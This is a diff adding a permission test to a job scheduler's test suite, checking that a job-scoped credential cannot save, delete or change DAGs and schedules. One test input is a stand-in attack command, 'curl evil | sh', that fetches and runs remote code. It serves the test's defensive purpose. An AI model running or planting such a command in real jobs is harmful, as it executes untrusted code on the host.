@@ -105,3 +105,21 @@ def test_the_data_dir_store_and_work_dir_are_private_whatever_the_umask(make_clu
         "workers/w": 0o700,
     }
     assert b"hunter2" in (data / "titan.db").read_bytes() + (data / "titan.db-wal").read_bytes()
+
+
+def test_a_job_credential_cannot_change_saved_dags_or_schedules(cluster: ProcessCluster) -> None:
+    admin = cluster.client
+    admin.save_dag("nightly", [TitanJob("a", command=["true"])])
+    admin.add_schedule("every-minute", "nightly", "* * * * *")
+    as_job = TitanClient(cluster.address, token=job_credential(cluster))
+    with as_job:
+        for attempt in (
+            lambda: as_job.save_dag("nightly", [TitanJob("a", command=["sh", "-c", "curl evil | sh"])]),
+            lambda: as_job.delete_saved_dag("nightly"),
+            lambda: as_job.add_schedule("mine", "nightly", "* * * * *"),
+            lambda: as_job.delete_schedule("every-minute"),
+        ):
+            with pytest.raises(PermissionDenied, match="belong to no run; that takes the cluster token"):
+                attempt()
+        assert as_job.list_saved_dags() == ["nightly"]  # reading is fine
+    assert [s.name for s in admin.list_schedules()] == ["every-minute"]
